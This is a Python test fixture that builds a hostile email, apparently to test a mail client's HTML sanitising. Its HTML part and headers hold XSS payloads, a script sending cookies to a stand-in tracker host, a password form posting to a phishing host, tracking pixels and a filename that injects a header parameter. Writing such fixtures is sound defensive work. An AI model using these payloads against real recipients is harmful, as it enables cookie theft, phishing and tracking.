"""Hostile mail for the desk's tests, built as real RFC 5322 messages with the stdlib.

Each trap is one a real phishing or tracking mail uses: script tags, event handlers,
``javascript:`` links, CSS that overlays the page, forms that post elsewhere, remote images
(tracking pixels) in ``<img>``, CSS ``url()`` and ``background=``, a meta refresh, an iframe.
"""

from __future__ import annotations

from email.message import EmailMessage
from email.utils import format_datetime

from tests.mailfactory import BASE

TRACKER = "tracker.example"

HOSTILE_HTML = f"""<html><head>
<meta http-equiv="refresh" content="0;url=https://{TRACKER}/refresh">
<style>body {{ background: url(https://{TRACKER}/css.png) }} .x {{ position: fixed; top: 0 }}</style>
<script>fetch('https://{TRACKER}/steal?c=' + document.cookie)</script>
</head><body background="https://{TRACKER}/bg.png">
<p onclick="alert(1)" style="position:fixed;top:0;left:0;width:100%;height:100%">Dear CEO, I will sue you.</p>
<img src="https://{TRACKER}/pixel.gif?id=42" width="1" height="1">
<img src=x onerror="alert(document.domain)">
<a href="javascript:alert(1)">click me</a>
<a href="https://example.org/evidence">my evidence</a>
<form action="https://{TRACKER}/phish" method="post"><input name="password"><button>Log in</button></form>
<iframe src="https://{TRACKER}/frame"></iframe>
<svg onload="alert(2)"><a xlink:href="javascript:alert(3)">svg</a></svg>
<div style="background-image: url('https://{TRACKER}/div.png')">styled</div>
</body></html>"""


def hostile_mail(sender: str = "Mallory Hostile <mallory@hostile.example>") -> bytes:
    """A complaint with a text part, the hostile HTML part and an HTML attachment."""
    msg = EmailMessage()
    msg["From"] = sender
    msg["To"] = "ceo@northwind-mobile.example"
    msg["Subject"] = "Final warning <script>alert('subject')</script>"
    msg["Date"] = format_datetime(BASE)
    msg["Message-ID"] = "<hostile-1@hostile.example>"
    msg.set_content("Dear CEO, I will sue you. <script>alert('text')</script>\n")
    msg.add_alternative(HOSTILE_HTML, subtype="html")
    msg.add_attachment(
        b"<html><script>alert('attachment')</script></html>",
        maintype="text",
        subtype="html",
        filename='invoice"; x=".html',
    )
    return msg.as_bytes()
